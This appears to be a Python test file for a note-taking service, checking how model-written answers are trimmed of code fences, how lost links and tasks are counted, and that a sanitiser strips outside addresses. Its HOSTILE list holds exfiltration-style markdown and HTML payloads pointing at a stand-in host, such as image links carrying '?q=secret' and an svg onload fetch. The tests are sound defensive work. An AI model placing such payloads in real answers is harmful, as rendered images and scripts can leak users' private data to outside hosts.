"""Answers of models: what they may touch, what is taken out of them, what is missing from them."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notesvc.text.blocks.reading import from_markdown
from notesvc.text.html.link_targets import Links
from notesvc.text.html.page import PageOptions, render
from notesvc.text.proposals import clean, losses, prose

NOTE = """---
tags: [a]
---
# A heading

Prose with `code`, [[Garden|the garden]] and #green.
Second line.

```py
x  =  1
```

- one
- two

| a | b |
|---|---|
| 1 | 2 |

$$
y^2
$$

The end.
"""


def test_prose_alone_is_given_away() -> None:
    given_away = [run.text for run in prose.runs(NOTE) if run.is_prose]
    assert given_away == [
        "# A heading\n\nProse with `code`, [[Garden|the garden]] and #green.\nSecond line.",
        "- one\n- two",
        "The end.",
    ]


PIECES = st.sampled_from(
    ["# h", "word", "```\ncode\n```", "~~~", "- a", "  - b", "> q", "| a |\n|---|\n| b |", "$$\nx\n$$", "<div>", "---",
     "", " ", "\t", "[x]: /y", "![[e]]", "\r\n", "1. n", "- [ ] t", "<!-- c -->", "é日本"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=12).map("\n".join))
def test_the_parts_are_the_text(text: str) -> None:
    found = prose.runs(text)
    assert "".join(run.text for run in found) == text
    assert all(run.text == run.text.strip() for run in found if run.is_prose)
    assert not any("```\ncode" in run.text for run in found if run.is_prose and not run.text.startswith(("-", ">")))


@pytest.mark.parametrize(
    ("answer", "text"),
    [
        ("```markdown\n# Hi\n\nyou\n```", "# Hi\n\nyou"),
        ("  plain \n", "plain"),
        ("~~~\na\n~~~", "a"),
        ("```py\nx = 1\n```", "```py\nx = 1\n```"),
        ("```\na\n```\nand\n```\nb\n```", "```\na\n```\nand\n```\nb\n```"),
    ],
)
def test_a_fence_around_all_of_an_answer_goes(answer: str, text: str) -> None:
    assert prose.without_fence(answer) == text


def test_what_is_lost_is_named_by_kind() -> None:
    before = (
        "[[Garden]] and [[Garden]] ![[plan.png]] #green @ada [shop](https://shop.example/a) `x = 1` $a+b$ "
        "[local](files/a.pdf)\n\n- [ ] water\n- [ ] dig\n\n| a |\n|---|\n| b |\n\n```\ncode\n```\n\n$$\nz\n$$\n"
    )
    assert losses.losses(before, before) == {}
    assert losses.losses(before, "[[Garden]] #GREEN\n\n- [ ] water it") == {
        "link": ["Garden"],
        "embed": ["plan.png"],
        "person": ["ada"],
        "address": ["https://shop.example/a", "files/a.pdf"],
        "code": ["code", "x = 1"],
        "formula": ["$$\nz\n$$", "a+b"],
        "table": ["a"],
        "task": ["dig"],
    }


@given(st.lists(PIECES, max_size=12).map("\n".join))
def test_nothing_is_lost_where_nothing_changed(text: str) -> None:
    assert losses.losses(text, text) == {}


SOURCE = "See [shop](https://shop.example/a) and ![pic](files/pic.png) <b>bold</b> https://known.example."
HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x](<https://evil.example/a b>)",
    "![x][r]\n\n[r]: https://evil.example/x",
    "![x][r]\n\n[r]:\n  https://evil.example/x",
    "[click](https://evil.example)",
    "<https://evil.example>",
    "https://evil.example/a",
    "www.evil.example",
    "<img src=https://evil.example/x>",
    "<IMG\nSRC='//evil.example/x'>",
    "<svg onload=fetch('//evil.example')>",
    "`\n\n![x](https://evil.example/a)\n\n`",
    "```\n```\n![x](https://evil.example/a)",
    "    ```\n\n![x](https://evil.example/a)\n\n    ```",
    "- ```\n\n![x](https://evil.example/a)\n```",
    "![x](//evil.example/a)",
    "![[https://evil.example/a.png]]",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "![x](ht\ntps://evil.example)",
    "![a\nb](https://evil.example/c)",
    "mailto:evil@evil.example [m](mailto:a@evil.example)",
    "\\![x](https://evil.example/a) !\\[x](https://evil.example/a)",
    "![](data:image/svg+xml;base64,PHN2Zy8+)",
]
_ADDRESS_IN_HTML = re.compile(r"(?:src|href|srcset|data|poster|action)\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)


def pointed_to(markdown: str) -> list[str]:
    """Where the page of it would lead or what it would load, by the renderer that all notes go through."""
    html = render(markdown, PageOptions(Links(remote_images=True))).html
    found = [address for tag in re.findall(r"<[^>]*>", html) for address in _ADDRESS_IN_HTML.findall(tag)]
    return [address for address in found if "evil" in address or address.startswith("data:")]


@pytest.mark.parametrize("answer", HOSTILE)
def test_an_answer_points_nowhere_that_its_input_did_not(answer: str) -> None:
    assert pointed_to(clean.harmless(answer, SOURCE)) == []


@given(st.lists(st.sampled_from([*HOSTILE, "word", "`", "``", "```", "\n\n", "> ", "- ", "~~~\n", "<", "[", "]"]),
                max_size=6).map("".join))  # fmt: skip
def test_no_mixture_points_anywhere_either(answer: str) -> None:
    assert pointed_to(clean.harmless(answer, SOURCE)) == []


@pytest.mark.parametrize(
    "answer",
    [
        SOURCE,
        "plain *text* with [[Links]], #tags and `<code>` and `https://x.example`",
        "```html\n<img src=x>\nhttps://x.example\n```",
        "a < b and c > d, [x](#here)",
    ],
)
def test_what_is_harmless_stays(answer: str) -> None:
    assert clean.harmless(answer, SOURCE) == answer
    assert from_markdown.from_markdown(answer)
